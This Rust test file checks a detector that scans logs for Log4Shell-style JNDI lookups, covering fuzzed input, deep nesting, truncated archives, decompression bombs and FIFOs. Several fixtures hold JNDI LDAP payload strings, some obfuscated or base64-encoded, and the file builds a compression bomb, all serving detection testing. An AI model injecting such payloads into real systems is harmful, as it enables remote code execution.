//! Hostile and random input: no panic, bounded output, clear reasons. The random-input
//! tests exercise the same entry point as the fuzz target in `fuzz/` (which needs nightly).

use proptest::prelude::*;

use praxcheck_logscan::decode::{MAX_DEPTH, MAX_WINDOW, decode_bytes, decode_window};
use praxcheck_logscan::{Limits, Options, scan_paths, scan_reader};
use praxcheck_model::{Location, MAX_PAYLOAD_CHARS, UnreadableReason};

use crate::support::{gzip, scan_one, write};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn decoder_survives_random_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        for h in decode_bytes(&bytes) {
            prop_assert!(h.payload.chars().count() <= MAX_PAYLOAD_CHARS);
        }
    }

    #[test]
    fn decoder_survives_random_lookup_soup(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("${"), Just("}"), Just(":-"), Just("jndi:"), Just("ldap://"),
                Just("lower:"), Just("upper:"), Just("base64:"), Just("date:'"),
                Just("%24"), Just("%7B"), Just("%25"), Just("\\u0024"), Just("\\044"),
                Just("\\\\"), Just("&#36;"), Just("ı"), Just("x"), Just("\n"), Just("\r"),
                Just("&#x24;"), Just("&dollar;"), Just("%2525"), Just("%25u"), Just("$\\"),
                Just("%26%2336;"), Just("%32%34"),
                Just("JHtqbmRpOmxkYXA6YWRkcn0="), Just("\u{E000}"), Just("\u{FFFD}"),
            ],
            0..200,
        )
    ) {
        let text: String = parts.concat();
        for h in decode_bytes(text.as_bytes()) {
            prop_assert!(h.payload.chars().count() <= MAX_PAYLOAD_CHARS);
        }
        // The streaming scanner (anchor search, one window per anchor) finds a payload on
        // every line where decoding the whole line from its start finds one: no disguise
        // slips past the anchor search.
        let fo = scan_reader(text.as_bytes(), &Location::file(std::path::Path::new("x")), &Limits::default());
        let found: std::collections::BTreeSet<u64> = fo.evidence.iter().map(|e| e.line).collect();
        for (i, line) in text.as_bytes().split(|b| *b == b'\n').enumerate() {
            if line.len() < MAX_WINDOW && !decode_window(line, false).hits.is_empty() {
                let n = i as u64 + 1;
                prop_assert!(found.contains(&n), "line {}: {:?}", n, String::from_utf8_lossy(line));
            }
        }
    }
}

#[test]
fn deep_nesting_is_bounded() {
    let deep = format!(
        "{}jndi:ldap://x/a{}",
        "${".repeat(100_000),
        "}".repeat(100_000)
    );
    // Far deeper than MAX_DEPTH: must return, not overflow the stack.
    let _ = decode_bytes(deep.as_bytes());
    let mut ok = String::from("${jndi:ldap://x/a}");
    for _ in 0..MAX_DEPTH - 2 {
        ok = format!("${{lower:{ok}}}");
    }
    assert_eq!(decode_bytes(ok.as_bytes()).len(), 1);
    // A line of nothing but anchors is linear: 2 MiB of `${` returns.
    let soup = "${%24\\u0024".repeat(200_000);
    let _ = decode_bytes(soup.as_bytes());
}

#[test]
fn truncated_and_corrupt_compressed_files() {
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for i in 0..20_000 {
        text.push_str(&format!("Zeile {i} Befund unauffällig\n"));
    }
    text.insert_str(0, "${jndi:ldap://early.example/a}\n");
    let gz = gzip(text.as_bytes());
    let p = write(dir.path(), "cut.log.gz", &gz[..gz.len() / 2]);
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 1, "found before the cut");
    assert_eq!(s.unreadable.len(), 1);
    assert_eq!(s.unreadable[0].reason, UnreadableReason::Truncated);
    assert!(s.unreadable[0].location.display.ends_with("cut.log.gz"));

    let p = write(
        dir.path(),
        "bad.zst",
        b"\x28\xb5\x2f\xfdgarbage garbage garbage",
    );
    let s = scan_one(&p);
    assert_eq!(s.unreadable.len(), 1, "{:?}", s.unreadable);
    assert_ne!(s.unreadable[0].reason, UnreadableReason::Binary);

    let p = write(
        dir.path(),
        "bad.zip",
        b"PK\x03\x04not really a zip archive at all",
    );
    let s = scan_one(&p);
    assert_eq!(s.unreadable.len(), 1);
    assert_eq!(s.unreadable[0].reason, UnreadableReason::Corrupt);
}

#[test]
fn decompression_bombs_stop_at_the_limit() {
    let dir = tempfile::tempdir().unwrap();
    // 64 MiB of one repeated line compress to a few dozen KiB.
    let line = b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n";
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    {
        use std::io::Write as _;
        e.write_all(b"${jndi:ldap://first.example/a}\n").unwrap();
        for _ in 0..(64 << 20) / line.len() {
            e.write_all(line).unwrap();
        }
    }
    let p = write(dir.path(), "bomb.log.gz", &e.finish().unwrap());
    let opts = Options {
        limits: Limits {
            min_decompressed: 4 << 20,
            max_ratio: 50,
            ..Limits::default()
        },
        ..Options::default()
    };
    let s = scan_paths(&[p], &opts);
    assert_eq!(s.evidence.len(), 1, "what came before the limit is kept");
    assert_eq!(s.unreadable.len(), 1);
    assert_eq!(s.unreadable[0].reason, UnreadableReason::SizeLimit);
    assert!(s.stats.bytes_read < 8 << 20);
}

#[test]
fn compression_nested_too_deep_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = b"${jndi:ldap://x.example/a}\n".to_vec();
    for _ in 0..6 {
        data = gzip(&data);
    }
    let p = write(dir.path(), "deep.gz", &data);
    let s = scan_one(&p);
    assert!(s.evidence.is_empty());
    assert_eq!(s.unreadable[0].reason, UnreadableReason::DepthLimit);
}

#[cfg(unix)]
#[test]
fn special_files_are_not_opened() {
    // A FIFO would block a reader forever; the walk only opens regular files.
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe.log");
    if !praxcheck_testsupport::mkfifo(&fifo, "special_files_are_not_opened") {
        return;
    }
    write(dir.path(), "a.log", b"${jndi:ldap://x.example/a}\n");
    let s = scan_one(dir.path());
    assert_eq!(s.evidence.len(), 1);
}
